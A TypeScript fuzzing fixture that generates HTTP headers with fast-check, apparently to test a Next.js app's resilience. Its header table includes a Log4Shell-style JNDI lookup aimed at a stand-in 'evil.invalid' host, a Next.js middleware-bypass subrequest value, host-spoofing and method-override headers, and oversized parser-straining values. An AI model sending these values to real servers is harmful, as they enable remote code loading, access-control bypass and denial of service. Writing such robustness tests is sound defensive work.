import fc from 'fast-check';
import {deep, nastyText} from '../../support/nasty.ts';
import {latin, MARK} from './marks.ts';

/** Whatever may stand in a header's value. */
const headerText = nastyText.map((text) =>
  latin(text)
    .replace(/[\0-\x08\x0a-\x1f\x7f]/g, '')
    .slice(0, 500),
);

/** Headers that something on the way may read, with what it may make of them. */
export const HEADERS: Record<string, readonly string[]> = {
  host: ['evil.invalid', 'localhost:1', '[::1]', 'a'.repeat(300)],
  'x-forwarded-host': ['evil.invalid'],
  'x-forwarded-proto': ['https', 'javascript'],
  forwarded: ['for=1.2.3.4;host=evil.invalid'],
  'x-original-url': ['/api/health'],
  'x-http-method-override': ['DELETE'],
  'next-action': ['a'.repeat(42), 'x'],
  'next-router-state-tree': ['%5B%22%22%2C%7B%7D%5D', '[', deep(200)],
  rsc: ['1'],
  'next-router-prefetch': ['1', '2'],
  'next-url': ['/en', '//evil.invalid'],
  'next-resume': ['1'],
  'x-middleware-subrequest': ['middleware:middleware:middleware:middleware:middleware'],
  'x-middleware-rewrite': ['http://evil.invalid/'],
  'x-matched-path': ['/[locale]/devis'],
  'x-invoke-status': ['500'],
  'x-nextjs-data': ['1'],
  'content-security-policy-report-only': ["script-src 'nonce-abc'"],
  'accept-language': ['en', 'fr;q=0', '*', 'en-'.repeat(150)],
  'accept-encoding': ['br', 'gzip', 'br;q=0,gzip;q=0,identity;q=0', 'zstd', '*;q=NaN'],
  accept: ['text/x-component', 'application/json'],
  cookie: ['lang=en', 'lang=xx', `lang=%ff; consent=${MARK}`, `a=${'b'.repeat(3_000)}`, ';;;=;='],
  'if-none-match': ['*', 'W/"', `${'"x",'.repeat(700)}`],
  'if-modified-since': ['x', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  range: ['bytes=0-', 'bytes=5-1', 'bytes=0-0,1-1,2-2', `bytes=${'0-1,'.repeat(500)}`, 'bytes=-99999999999'],
  origin: ['null', 'https://evil.invalid', 'http://localhost'],
  referer: [`http://localhost/inscription?Email=${MARK}@exemple.invalid`, 'http://['],
  'sec-fetch-site': ['cross-site', 'same-origin'],
  'sec-fetch-dest': ['document', 'empty'],
  authorization: ['Bearer x', 'Basic OjpbJw==', `Bearer ${'a'.repeat(2_000)}`],
  upgrade: ['websocket', 'h2c', 'TLS/1.0'],
  connection: ['upgrade', 'upgrade, http2-settings', 'content-length'],
  expect: ['100-continue', '200-ok'],
  te: ['trailers'],
  'content-language': ['en', 'xx'],
  'content-encoding': ['gzip', 'br'],
  'x-request-id': ['abcdefgh\tx', 'x'.repeat(100)],
  'x-forwarded-for': ['1.2.3.4, ', ', ,', '::::', 'unknown', '[2001:db8::1]:443'],
  'user-agent': [`${MARK}/1.0`, '${jndi:ldap://evil.invalid/a}'],
};
export const header = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .constantFrom(...Object.keys(HEADERS))
      .chain((name) =>
        fc
          .oneof(fc.constantFrom(...(HEADERS[name] ?? [''])), headerText)
          .map((value) => [name, value] as const),
      ),
  },
  {weight: 1, arbitrary: fc.tuple(fc.stringMatching(/^[a-zA-Z!#$&'*+.^_`|~-]{1,30}$/), headerText)},
);
